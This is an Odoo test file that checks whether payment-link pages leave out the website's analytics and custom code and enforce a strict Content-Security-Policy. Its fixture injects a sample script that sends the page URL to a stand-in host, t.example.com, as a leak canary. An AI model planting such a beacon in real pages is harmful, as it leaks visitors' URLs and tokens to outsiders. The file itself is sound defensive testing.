# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import base64
import hashlib
import re

from odoo.tests import tagged

from odoo.addons.payment_link_sms.tests.common import PayPageCommon

TRACKERS = ("G-PAYLINKTEST", "googletagmanager", "plausible", "window.leakedHead", "leakedFoot")


@tagged("post_install", "-at_install")
class TestPayPageWithWebsite(PayPageCommon):
    """With `website` installed and its analytics and custom code set, the pay pages render
    none of them, and their Content-Security-Policy refuses any other script."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["website"].search([]).write(
            {
                "google_analytics_key": "G-PAYLINKTEST",
                "plausible_shared_key": "plausible-key",
                "plausible_site": "pay.example.com",
                "custom_code_head": "<script>window.leakedHead = location.href;</script>",
                "custom_code_footer": "<script>new Image().src = 'https://t.example.com/"
                "?leakedFoot=' + location.href;</script>",
            }
        )

    def assert_no_third_party(self, response):
        for marker in TRACKERS:
            self.assertNotIn(marker, response.text)
        self.assertNotIn(
            "/pay/",
            re.sub(r'data-token="[^"]*"', "", response.text.split("</head>")[0]),
            "the page's address is nowhere in its head (canonical, sharing tags)",
        )
        self.assertNotIn("fonts.gstatic.com", response.text)
        policy = response.headers["Content-Security-Policy"]
        self.assertIn("frame-ancestors 'none'", policy)
        script_src = policy.split("script-src ", 1)[1].split(";", 1)[0]
        self.assertNotIn("unsafe-inline", script_src)
        self.assertNotIn("googletagmanager", script_src)
        providers = self.env["payment.provider"].sudo().search([])
        provider_scripts = tuple(providers._payment_link_csp_sources().get("script-src", []))
        for attrs, body in re.findall(r"<script([^>]*)>(.*?)</script>", response.text, re.DOTALL):
            if "src=" in attrs:
                # The server's own, or a payment provider's (payment_stripe loads Stripe.js on
                # every payment form; the policy allows it only when Stripe is offered).
                src = re.search(r'src="([^"]+)"', attrs).group(1)
                self.assertTrue(
                    src.startswith("/") or src.startswith(provider_scripts),
                    f"a script of the server or a provider only: {src}",
                )
            elif body.strip():
                digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
                self.assertIn(f"'sha256-{digest}'", script_src, body[:80])

    def test_website_tracking_is_set_elsewhere(self):
        """The control: the website's own pages do carry the tracking and custom code."""
        body = self.url_open("/web/login").text
        self.assertIn("G-PAYLINKTEST", body)
        self.assertIn("window.leakedHead", body)
        self.assertIn("leakedFoot", body)

    def test_pay_pages_load_nothing_third_party(self):
        page = self.open_page()
        self.assertEqual(page.status_code, 200)
        self.assertIn("o_payment_form", page.text)
        self.assert_no_third_party(page)
        self.assert_no_third_party(self.open_page(token="nope" * 6))
        tx = self.pay("done")
        tx._post_process()
        self.assert_no_third_party(self.url_open(tx.landing_route))
        receipt = self.open_page()
        self.assertIn("Payment received", receipt.text)
        self.assert_no_third_party(receipt)
